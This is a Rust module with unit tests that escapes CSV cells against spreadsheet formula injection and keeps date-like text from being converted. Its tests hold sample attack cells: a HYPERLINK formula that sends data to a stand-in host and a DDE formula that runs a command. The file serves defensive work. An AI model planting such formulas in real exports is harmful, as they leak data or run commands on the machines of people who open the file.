//! CSV cells that a spreadsheet shows as written and never runs.
//!
//! A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is taken as a formula by
//! Excel, WPS and LibreOffice, so a unit named `=HYPERLINK(…)` would run when the export is
//! opened. OWASP's rule: such a cell gets a leading `'`, which the spreadsheet hides, and every
//! cell that needs it is quoted. Plain numbers (`-3`, `0.25`) are left as numbers.

/// One CSV cell: neutralised when it could be read as a formula, quoted when it must be.
pub fn cell(s: &str) -> String {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s);
    let text = if risky {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if risky || text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.into_owned()
    }
}

/// One cell of text people typed (a title, a reply, a phone): like [`cell`], and also kept as
/// text when a spreadsheet would read it as something else: a date (`3-4`, `2026/11/1`,
/// `3月4日`, `Mar 4`), a time (`8:30`), a number it would round or strip (`13800138000`,
/// `007`), a percentage. Such a cell gets the same leading `'` as a formula.
pub fn text(s: &str) -> String {
    if looks_like_a_value(s) {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else {
        cell(s)
    }
}

/// Whether a spreadsheet would take `s` for a number, date, time or percentage rather than
/// text: digits with only the marks dates, times and numbers are written with, or a month's
/// English name with digits.
fn looks_like_a_value(s: &str) -> bool {
    let t = s.trim();
    if !t.chars().any(|c| c.is_ascii_digit()) {
        return false;
    }
    let lower = t.to_ascii_lowercase();
    let months = [
        "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec",
    ];
    let rest: String = months
        .iter()
        .fold(lower, |acc, m| acc.replacen(m, "", 1))
        .chars()
        .filter(|c| c.is_ascii_alphabetic())
        .collect();
    // What is left of a month's name (`march` → `ch`) is allowed too.
    let month_tail = [
        "", "uary", "ruary", "ch", "il", "e", "y", "ust", "tember", "t", "ember", "ober",
    ];
    month_tail.contains(&rest.as_str())
        && t.chars().all(|c| {
            c.is_ascii_digit() || c.is_ascii_alphabetic() || " -/.:,+%年月日号时分秒".contains(c)
        })
}

/// One CSV line (without its line break) of the given cells.
pub fn row<I, S>(cells: I) -> String
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    cells
        .into_iter()
        .map(|c| cell(c.as_ref()))
        .collect::<Vec<_>>()
        .join(",")
}

/// `-12`, `+3`, `0.25`: digits with at most one point and an optional sign, nothing else.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_quoted() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
        );
        assert_eq!(cell(r#"=cmd|"/c calc"!A1"#), r#""'=cmd|""/c calc""!A1""#);
        for s in [
            "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "+", "=", "-inf", "-1e5",
        ] {
            let c = cell(s);
            assert!(c.starts_with("\"'"), "{s:?} → {c:?}");
        }
    }

    #[test]
    fn ordinary_cells_and_numbers_are_left_alone() {
        assert_eq!(cell("市城管局"), "市城管局");
        assert_eq!(cell("-3"), "-3");
        assert_eq!(cell("+3"), "+3");
        assert_eq!(cell("0.25"), "0.25");
        assert_eq!(cell("-0.25"), "-0.25");
        assert_eq!(cell(""), "");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(row(["1", "=x", "y"]), "1,\"'=x\",y");
    }

    #[test]
    fn text_a_spreadsheet_would_turn_into_a_date_or_number_stays_text() {
        for s in [
            "3-4",
            "3/4",
            "2026-11-01",
            "2026/11/1",
            "11.5",
            "3月4日",
            "12月",
            "8:30",
            "Mar 4",
            "4-March",
            "13800138000",
            "007",
            "50%",
            "-3",
            "+3",
            "1 1/2",
        ] {
            let c = text(s);
            assert!(c.starts_with("\"'"), "{s:?} → {c:?}");
            assert_eq!(c, format!("\"'{s}\""));
        }
        for (s, want) in [
            ("朝阳路3号楼", "朝阳路3号楼"),
            ("路灯不亮", "路灯不亮"),
            ("W1042", "W1042"),
            ("LED 3盏", "LED 3盏"),
            ("a,b", "\"a,b\""),
            ("", ""),
            ("=1+1", "\"'=1+1\""),
            ("-1+1", "\"'-1+1\""),
        ] {
            assert_eq!(text(s), want, "{s:?}");
        }
    }
}
